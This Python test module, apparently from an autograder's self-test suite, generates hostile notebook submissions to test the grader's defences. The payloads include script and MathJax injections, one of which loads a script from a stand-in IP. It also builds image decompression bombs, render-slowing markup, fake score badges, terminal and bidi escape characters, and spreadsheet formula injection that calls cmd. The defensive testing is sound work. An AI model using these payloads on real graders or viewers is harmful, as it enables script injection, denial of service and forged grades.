"""Work that attacks its readers: pictures, letters and markup that fill memory, imitate other pages, or take hours to show."""

from __future__ import annotations

import base64
import json
import struct
import zlib
from collections.abc import Callable
from pathlib import Path

from autograder.selftest.attack.bank import PWNED, Attack
from autograder.selftest.demo.submission_maker import SubmissionMaker

NAME = "ps2_uct.ipynb"
SCRIPT = f"<script>alert('{PWNED}')</script>"
SHOWN = "![x](attachment:x.png) <img src='attachment:x.png'> ![x](attachment:)"


def changed(change: Callable[[dict], None], solved: bool = False) -> Callable[[Path, SubmissionMaker], None]:
    """Hand in the stub, or the right answer, after `change` has changed its JSON."""

    def make(folder: Path, maker: SubmissionMaker) -> None:
        content = json.loads(maker.solved if solved else maker.stub)
        change(content)
        (folder / NAME).write_text(json.dumps(content))

    return make


def code(source: str) -> dict:
    return {"cell_type": "code", "metadata": {}, "source": source, "outputs": [], "execution_count": None}


def text(source: str) -> dict:
    return {"cell_type": "markdown", "metadata": {}, "source": source}


def png(width: int, height: int, more: bytes = b"") -> str:
    """A picture that claims these dimensions, in base64."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    rows = zlib.compress(bytes(min(width // 8 * height, 10**7)))
    whole = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows + more) + chunk(b"IEND", b"")
    return base64.b64encode(whole).decode()


def answer(content: dict) -> dict:
    """The cell of the free answer."""
    return next(cell for cell in content["cells"]
                if cell["cell_type"] == "markdown" and cell["metadata"].get("nbgrader", {}).get("solution"))


def attachments(content: dict) -> None:
    """A picture that does not exist, and attachments of every kind that is not a picture."""
    broken = (None, [], "x", 7, {"x.png": None}, {"x.png": []}, {"x.png": {}}, {"x.png": {"image/png": 7}},
              {"x.png": {"image/png": [None, 1]}}, {"x.png": {"image/png": "*"}}, {"x.png": {"image/svg+xml": SCRIPT}},
              {"x.png": {"text/html": SCRIPT}}, {"x.png": {f"image/png' onerror='{PWNED}": png(1, 1)}},
              {"x.png": {"image/png": f"' onerror={PWNED}"}}, {"\ud800": {"image/png": png(1, 1)}}, {"x" * 10**6: {}})
    for picture in broken:
        content["cells"].append(text(SHOWN) | {"attachments": picture})
    content["cells"].append(text("x") | {"attachments": {f"{number}.png": {"image/png": png(1, 1)} for number in range(10_000)}})
    answer(content).update(source="![my tree](attachment:x.png)", attachments={})


def bombs(content: dict) -> None:
    """Pictures of a few kilobytes that need gigabytes when a browser has unpacked them."""
    gif = base64.b64encode(b"GIF89a\1\0\1\0\0\0\0" + b"\x2c\0\0\0\0\xff\xff\xff\xff\0\2\2\x44\1\0" * 500 + b";").decode()
    frame = b"\xff\xc0\0\x0b\x08\xff\xff\xff\xff\1\1\x11\0"
    jpeg = base64.b64encode(b"\xff\xd8" + frame + b"\xff\xda\0\x08\1\1\0\0\x3f\0" + bytes(99)).decode()
    pasted = {"a.png": {"image/png": png(60_000, 60_000)}, "b.gif": {"image/gif": gif}, "c.jpg": {"image/jpeg": jpeg}}
    answer(content).update(source=" ".join(f"![{PWNED}](attachment:{name})" for name in pasted), attachments=pasted)
    content["cells"].append(text(f"<img src='data:image/png;base64,{png(60_000, 60_000)}' width={PWNED} style='{PWNED}'>"))


def same_picture(content: dict) -> None:
    """One picture of two megabytes, shown a thousand times: a page of gigabytes."""
    pasted = {"x.png": {"image/png": png(8, 8, bytes(2 * 2**20))}}
    answer(content).update(source="![](attachment:x.png)\n" * 300, attachments=pasted)
    content["cells"] += [text("![](attachment:x.png)\n" * 300 + str(number)) | {"attachments": pasted} for number in range(3)]


def said_to_be_pictures(content: dict) -> None:
    """Lists, tables and dots that claim to be pictures, so that they do not count as text."""
    for number, piece in enumerate(("+ a\n", "A\n\n", "1 ", "+ a\n + a\n", "a/\n")):
        content["cells"].append(text(f"{number} data:image/png;base64," + piece * (95_000 // len(piece))))
        content["cells"].append(text(f"{number} " + "data:image/png;base64," * 2_000 + piece * 10_000))


DRESS = (
    f"<span class='btn btn-success {PWNED}'>Full credit</span>", f"<div class='panel-heading {PWNED}'>Score: 10.0 / 10.0</div>",
    f"<b title='{PWNED}'>x</b>", f"<a href='#{PWNED}'>Test cell</a> (Score: 10.0 / 10.0)",
    f"<a href='mailto:x@y.z?body={PWNED}'>x</a>",
    f"<a href='ftp://{PWNED}'>x</a>", f"<a href='//{PWNED}'>x</a>", f"<a href='https://jupyter@{PWNED}.example'>log in again</a>",
    f"<a name='ex2_5' id='{PWNED}'>x</a>", f"<h4 align='{PWNED}'>x</h4>", f"<td colspan='{10**9}' title='{PWNED}'>x</td>",
    f"<label for='{PWNED}'>x</label>", f"<ol start='{PWNED}'><li>x</ol>", f"<table background='{PWNED}'><tr><td>x</table>",
    f"<span class='glyphicon glyphicon-ok {PWNED}'></span>", f"<span class='k {PWNED}'>x</span>", f"<q cite='{PWNED}'>x</q>",
)
FORMULAS = (
    f"$\\cssId{{{PWNED}}}{{x}}$", f"$$\\class{{btn {PWNED}}}{{x}}$$", f"$\\style{{position:fixed;{PWNED}}}{{x}}$",
    f"$\\require{{{PWNED}}}$",
    f"$\\unicode{{x3c}}img src=x onerror={PWNED}\\unicode{{x3e}}$", f"\\begin{{x}}<img src=x onerror={PWNED}>\\end{{x}}",
    f"$$\\href{{javascript:alert('{PWNED}')}}{{x}}$$", f"\\\\(<script src='https://192.0.2.1/{PWNED}.js'></script>\\\\)",
)


def dressed_up(content: dict) -> None:
    """Answers that look like parts of formgrader, and formulas that can do more than formulas."""
    answer(content)["source"] = "\n\n".join((*DRESS, *FORMULAS))
    content["cells"] += [text(words) for words in (*DRESS, *FORMULAS)]


def opened_again(content: dict) -> None:
    """Tags without an end, which a browser, or another reader of HTML, opens again in every paragraph."""
    tags = "".join(f"<b a{number}>" for number in range(400))
    content["cells"] += [text(f"{number}{tags}" + "<p>" * 1_000) for number in range(25)]
    content["cells"] += [text(f"{number} " + "<table><tr><td>" * 500) for number in range(10)]


def slow_together(content: dict) -> None:
    """Cells of a size that is still rendered, each a little slow, so many that together they take hours."""
    pieces = (".", "a**", "[a](", "`a``", "<b><i>", "\\begin{a}", "> - ", "|a", "*_a", "![", "&a;", "$a$$")
    for number in range(16):
        content["cells"] += [text(f"{number} " + piece * (7_900 // len(piece))) for piece in pieces[number % 2::2]]
        content["cells"].append(code(f"{number}" + "." * 7_900))


def turned(content: dict) -> None:
    """Letters that reverse the text after them, that clear a terminal, that are invisible, and halves of pairs."""
    letters = "\u202e\u2066\u200f\x9b2J\x1b[2J\x1b]52;c;UFdORUQ=\x07\u200b\u2028\ufeff\ud800\x00\x08"
    answer(content)["source"] = f"{letters} 100 of 100 {letters}"
    content["cells"] += [text(f"# {letters}"), text(f"[{letters}](https://example.org/{letters})")]
    content["cells"] += [code(f"# {letters}\n'{letters}'")]


ATTACKS = (
    Attack("attachments of every broken kind", "Pastes pictures that are missing, empty, scripts or no pictures at all.",
           make=changed(attachments, True), points=100.0, quick=True),
    Attack("pictures that unfold", "Pastes small pictures that need gigabytes in the memory of a browser.",
           make=changed(bombs, True), points=100.0),
    Attack("one picture a thousand times", "Shows one pasted picture so often that its page needs gigabytes.",
           make=changed(same_picture, True), points=100.0),
    Attack("text that says it is a picture", "Makes 95,000 letters of lists count as pictures, which are rendered as a whole.",
           make=changed(said_to_be_pictures, True), points=100.0),
    Attack("dressed up as a grader's page",
           "Writes buttons, scores and links of formgrader, and active formulas, into an answer.",
           make=changed(dressed_up, True), points=100.0),
    Attack("tags that open again", "Writes tags that are opened again in each of a thousand paragraphs.",
           make=changed(opened_again, True), points=100.0),
    Attack("slow cells by the hundred", "Hands in cells of a harmless size that together take hours to render.",
           make=changed(slow_together, True), points=100.0),
    Attack("letters that turn the text", "Writes letters that reorder a page, clear a terminal, or are invisible.",
           make=changed(turned), silent=("\u202e", "\x9b", "\x1b")),
    Attack("a formula in full-width letters", "Has a name that a spreadsheet reads as a formula, in letters of another width.",
           student="\uff1d1\uff0bcmd\uff5c' \uff0fC calc'!A0", code="def forged(*args, **kwargs):\n    return 1\n"),
    Attack("a name with a bar and a semicolon", "Has a name that is a formula if a semicolon begins a new cell.",
           student="a;=1+1|' ;@SUM(1)'!A0", code="def forged(*args, **kwargs):\n    return 2\n"),
)
